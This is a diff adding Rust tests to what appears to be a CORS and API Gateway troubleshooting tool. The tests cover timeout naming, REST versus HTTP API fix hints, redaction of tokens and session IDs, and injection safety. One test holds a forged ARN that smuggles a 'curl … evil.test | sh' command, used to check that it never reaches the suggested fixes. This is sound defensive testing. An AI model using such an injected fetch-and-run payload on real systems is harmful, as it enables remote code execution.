@@ -188,6 +188,8 @@ fn what_the_network_says_is_named() {
         (Failure::Tls, "certificate-invalid", 1),
         (Failure::Timeout, "timed-out", 2),
         (Failure::NotHttp, "not-http", 2),
+        (Failure::TooLarge, "answer-too-large", 1),
+        (Failure::ConnectTimeout, "timed-out", 1),
         (Failure::Other, "unreachable", 2),
     ] {
         let (asked, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, failing(failure));
@@ -246,7 +248,7 @@ fn a_simple_call_learns_from_the_foreign_preflight_whether_cors_is_configured() 
 fn a_policy_allows_the_resource_that_the_answer_names() {
     let case = by_id("R10");
     let mut exchange = exchange_of(&case);
-    let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users";
+    let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/x";
     if let Some(Reply::Answer(answered)) = &mut exchange.hops[0].response {
         answered.body = format!(
             r#"{{"Message":"User: arn:aws:sts::1:assumed-role/x is not authorized to perform: execute-api:Invoke on resource: {resource}"}}"#
@@ -261,4 +263,135 @@ fn a_policy_allows_the_resource_that_the_answer_names() {
         .filter(|text| text.contains("execute-api:Invoke") && text.contains("Resource: "))
         .collect();
     assert!(!policies.is_empty() && policies.iter().all(|text| text.contains(resource)), "{policies:?}");
+}
+
+const REST: (&str, &str) = ("x-amz-apigw-id", "abc=");
+const HTTP: (&str, &str) = ("apigw-requestid", "abc=");
+
+/// What a call without a word about its front door is told, with the same answer to everything that is asked.
+fn told(url: &str, answered: &Outcome) -> (Verdict, Vec<&'static str>, String) {
+    let bearer = [("authorization", "Bearer t")];
+    let (_, report) = examine(call("GET", url, &bearer), Send::Safe, |_| answered.clone());
+    let fixes = report.diagnosis.findings.iter().flat_map(|found| &found.fixes).map(|fix| fix.text.as_str());
+    let fixes: Vec<&str> = fixes.collect();
+    let codes = report.diagnosis.findings.iter().map(|found| found.code).collect();
+    (report.diagnosis.verdict, codes, fixes.join("\n"))
+}
+
+#[test]
+fn the_front_door_that_answered_is_mended() {
+    let execute_api = "https://abc.execute-api.us-east-1.amazonaws.com/prod/items";
+    let here = "http://127.0.0.1:4567/items";
+    for (url, mark, own, other) in [
+        (execute_api, REST, "your REST API", "your HTTP API"),
+        (execute_api, HTTP, "your HTTP API", "your REST API"),
+        ("https://api.test/items", REST, "your REST API", "your HTTP API"),
+        (here, HTTP, "your HTTP API", "vite.config.ts"),
+    ] {
+        let headers = [("access-control-allow-origin", PAGE), ("access-control-allow-headers", "x-a"), mark];
+        let (verdict, codes, fixes) = told(url, &answer(200, &headers, ""));
+        assert_eq!((verdict, codes[0]), (Verdict::Certain, "header-not-allowed"));
+        assert!(fixes.contains(own) && !fixes.contains(other), "{url} {mark:?}: {fixes}");
+    }
+}
+
+#[test]
+fn a_refusal_of_a_rest_api_is_made_readable_and_given_no_more_time() {
+    let open = [("access-control-allow-origin", "*"), ("access-control-allow-headers", "*")];
+    for url in ["https://abc.execute-api.us-east-1.amazonaws.com/prod/items", "https://api.test/items"] {
+        for (status, exception, waits) in
+            [(401, "UnauthorizedException", false), (504, "InternalServerErrorException", true)]
+        {
+            let (_, report) = examine(call("GET", url, &[("authorization", "Bearer t")]), Send::Safe, |request| {
+                let headers = [("x-amzn-errortype", exception)];
+                let body = if waits { "Endpoint request timed out" } else { "Unauthorized" };
+                match request.step {
+                    Step::Request => answer(status, &headers, &format!("{{\"message\":\"{body}\"}}")),
+                    _ => answer(200, &open, ""),
+                }
+            });
+            let first = &report.diagnosis.findings[0];
+            assert_eq!(first.code, "gateway-error-without-cors");
+            assert!(first.fixes[0].text.contains("Gateway responses"), "{:?}", first.fixes);
+            assert_eq!(first.fixes.iter().any(|fix| fix.text.contains("SendMessageCommand")), waits);
+        }
+    }
+}
+
+#[test]
+fn the_words_of_aws_from_another_server_prove_nothing() {
+    let spring = answer(401, &[("www-authenticate", "Bearer")], "");
+    let echo = |status, words| answer(status, &[], &format!("{{\"message\":\"{words}\"}}"));
+    for answered in [
+        spring,
+        answer(401, &[("www-authenticate", "Bearer")], r#"{"message":"Unauthorized"}"#),
+        echo(404, "Not Found"),
+        echo(403, "Forbidden"),
+        echo(500, "Internal Server Error"),
+        echo(403, "Missing Authentication Token"),
+        answer(403, &[], r#"{"Message":"Forbidden"}"#),
+        answer(204, &[], ""),
+    ] {
+        let (verdict, codes, _) = told("https://api.test/items", &answered);
+        let is_silent = codes[0] == "preflight-without-cors";
+        assert!(is_silent || verdict != Verdict::Certain, "{codes:?} for {answered:?}");
+        assert!(codes[0] != "cors-not-configured" || verdict == Verdict::Likely, "{codes:?}");
+    }
+    // the same from API Gateway
+    let marked = answer(401, &[("www-authenticate", "Bearer"), HTTP], r#"{"message":"Unauthorized"}"#);
+    let (verdict, codes, _) = told("https://api.test/items", &marked);
+    assert_eq!((verdict, codes[0]), (Verdict::Certain, "preflight-authorizer-no-cors"));
+}
+
+#[test]
+fn a_forged_resource_reaches_no_line_to_paste() {
+    let evil = "arn:x'\\n;curl${IFS}https://evil.test|sh;:'";
+    let body = format!(
+        r#"{{"Message":"User: arn:aws:sts::1:assumed-role/x is not authorized to perform: execute-api:Invoke on resource: {evil}"}}"#
+    );
+    let (_, codes, fixes) = told("https://api.test/items", &answer(403, &[REST], &body));
+    assert!(fixes.contains("put-role-policy") && !fixes.contains("evil.test"), "{codes:?} {fixes}");
+}
+
+#[test]
+fn what_the_session_gave_the_user_is_not_reported() {
+    let given = [("authorization", "Bearer t")];
+    let url = "https://api.test/x?token=in-the-query&page=2#in-the-fragment";
+    let (asked, report) = examine(call("GET", url, &given), Send::Safe, |request| match request.url.as_str() {
+        "https://api.test/x?token=in-the-query&page=2" if request.step == Step::Request => {
+            let to = ("location", "https://api.test/cb?code=a-code#access_token=a-token");
+            answer(302, &[OPEN[0], OPEN[1], to], "moved")
+        }
+        _ => {
+            let secret = [OPEN[0], OPEN[1], ("x-amz-security-token", "temporary"), ("X-Session-Id", "a-session")];
+            answer(200, &secret, r#"{"IdToken":"an-id-token"}"#)
+        }
+    });
+    assert_eq!((asked.len(), report.outcome), (5, "readable"));
+    let text = serde_json::to_string(&report).unwrap();
+    for secret in
+        ["in-the-query", "in-the-fragment", "a-code", "a-token", "temporary", "a-session", "an-id-token", "IdToken"]
+    {
+        assert!(!text.contains(secret), "{secret} in {text}");
+    }
+    for name in ["token=[redacted]&page=[redacted]", "/cb?code=[redacted]", "x-amz-security-token"] {
+        assert!(text.contains(name), "{name} not in {text}");
+    }
+    // an error says why, and so does a page in its place
+    let (_, report) = examine(call("GET", "https://api.test/", &[]), Send::Safe, |_| {
+        answer(200, &[("content-type", "text/html")], "<h1>")
+    });
+    assert!(serde_json::to_string(&report).unwrap().contains("<h1>"));
+}
+
+#[test]
+fn a_connection_that_never_was_is_told_from_an_answer_that_never_came() {
+    let bearer = [("authorization", "Bearer t")];
+    for (failure, asked) in [(Failure::ConnectTimeout, 1), (Failure::Timeout, 2)] {
+        let lost = Outcome::Failure { failure, message: String::new() };
+        let (requests, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, |_| lost.clone());
+        let found = &report.diagnosis.findings[0];
+        assert_eq!((found.code, requests.len(), found.fixes.len()), ("timed-out", asked, 0));
+        assert!(report.diagnosis.evidence[0].text.contains(failure.name()));
+    }
 }
